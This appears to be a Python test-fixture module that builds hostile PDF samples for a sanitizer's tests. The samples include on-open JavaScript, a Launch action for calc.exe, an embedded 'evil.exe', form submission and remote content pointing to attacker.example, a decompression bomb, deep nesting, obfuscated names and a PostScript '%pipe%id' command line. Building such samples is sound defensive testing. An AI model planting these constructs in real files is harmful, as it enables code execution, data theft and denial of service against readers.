"""PDF files that do something, hide something or never end."""

import io
import struct
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.unit.foundation.hostile.entry import HTML, Hostile, a_zip, bomb


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
    """Return a one-page PDF, changed as asked."""
    document = pikepdf.new()
    document.add_blank_page()
    if change is not None:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def _annotation(**parts: object) -> Callable[[pikepdf.Pdf], None]:
    def add(document: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **{"Subtype": Name.Link, **parts})
        document.pages[0].Annots = Array([document.make_indirect(annotation)])

    return add


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("x"), Dictionary(S=Name.JavaScript, JS="y")]))


def _automatic(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("calc.exe")))


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ-evil-program"


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp>xfa-script</xdp>"))


def _author(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = "SECRETAUTHOR"
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["SECRETAUTHOR"]


def _chained(document: pikepdf.Pdf) -> None:
    last = Dictionary(S=Name.JavaScript, JS=String("app.alert(2)"))
    _annotation(A=Dictionary(S=Name.URI, URI=String("https://example.org"), Next=Array([last])))(document)


def _outside(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.stream_dict.F = Dictionary(FS=Name.URL, F=String("http://attacker.example"))
    document.pages[0].Contents = stream


def raw_pdf(objects: dict[int, bytes]) -> bytes:
    """Return a PDF put together by hand, with an xref stream as its last object."""
    out = io.BytesIO(b"")
    out.write(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    last = max(objects) + 1
    places[last] = out.tell()
    rows = b"".join(
        struct.pack(">BIB", 1, places[n], 0) if n in places else struct.pack(">BIB", 2, max(objects), 0)
        for n in range(1, last + 1)
    )
    rows = struct.pack(">BIB", 0, 0, 255) + rows
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
        % (last, last + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[last]
    )
    return out.getvalue()


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R /X 4 0 R >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"


def object_stream_bomb() -> bytes:
    data = bomb(300, b"4 0 << /A 1 >>")
    holder = b"<< /Type /ObjStm /Mark (BOMBHOLDER) /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        data
    )
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf({1: _CATALOG, 2: pages, 3: _PAGE, 5: holder + data + b"\nendstream"})


def page_circle() -> bytes:
    return raw_pdf({1: _CATALOG, 2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", 3: _PAGE, 4: b"null"})


def deep_nesting() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf({1: _CATALOG, 2: pages, 3: _PAGE, 4: deep})


def spelled_differently() -> bytes:
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    return raw_pdf({1: catalog, 2: pages, 3: _PAGE, 4: b"null"})


def encrypted_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user=""))


PAPERS = [
    Hostile("PDF with script on opening", "a.pdf", lambda: pdf(_script), (b"JavaScript", b"app.alert")),
    Hostile("PDF with a script spelled oddly", "a.pdf", spelled_differently, (b"JavaScript", b"app.alert")),
    Hostile("PDF with a chained script", "a.pdf", lambda: pdf(_chained), (b"JavaScript", b"app.alert")),
    Hostile("PDF that starts a program", "a.pdf", lambda: pdf(_automatic), (b"Launch", b"calc.exe")),
    Hostile("PDF with a program inside", "a.pdf", lambda: pdf(_embedded), (b"MZ-evil-program", b"evil.exe")),
    Hostile("PDF with an XFA form", "a.pdf", lambda: pdf(_form), (b"xfa-script", b"XFA")),
    Hostile(
        "PDF with a file pinned on",
        "a.pdf",
        lambda: pdf(_annotation(Subtype=Name.FileAttachment, Contents=String("pinned"))),
        (b"FileAttachment", b"pinned"),
    ),
    Hostile(
        "PDF with rich media",
        "a.pdf",
        lambda: pdf(_annotation(Subtype=Name.RichMedia, Contents=String("flash"))),
        (b"RichMedia", b"flash"),
    ),
    Hostile(
        "PDF link to a script",
        "a.pdf",
        lambda: pdf(_annotation(A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))),
        (b"javascript",),
    ),
    Hostile(
        "PDF link to a file of the machine",
        "a.pdf",
        lambda: pdf(_annotation(A=Dictionary(S=Name.GoToR, F=String("//attacker/share/x.pdf")))),
        (b"attacker",),
    ),
    Hostile(
        "PDF that sends a form away",
        "a.pdf",
        lambda: pdf(_annotation(A=Dictionary(S=Name.SubmitForm, F=String("http://attacker.example")))),
        (b"attacker",),
    ),
    Hostile("PDF with content from elsewhere", "a.pdf", lambda: pdf(_outside), (b"attacker",)),
    Hostile("PDF that names its author", "a.pdf", lambda: pdf(_author), (b"SECRETAUTHOR",)),
    Hostile("PDF with a zip behind it", "a.pdf", lambda: pdf() + a_zip(), (b"PK\x03\x04",)),
    Hostile("PDF behind HTML", "a.pdf", lambda: HTML + pdf()),
    Hostile("PDF behind a zip", "a.pdf", lambda: a_zip() + pdf()),
    Hostile("encrypted PDF", "a.pdf", encrypted_pdf),
    Hostile("PDF objects that unpack to 300 MB", "a.pdf", object_stream_bomb, (b"BOMBHOLDER",)),
    Hostile("PDF pages in a circle", "a.pdf", page_circle),
    Hostile("PDF nested 100,000 deep", "a.pdf", deep_nesting, (b"[" * 1000,)),
    Hostile("PostScript named PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
    Hostile("torn PDF", "a.pdf", lambda: b"%PDF-1.7\n" + b"\xff" * 500),
]
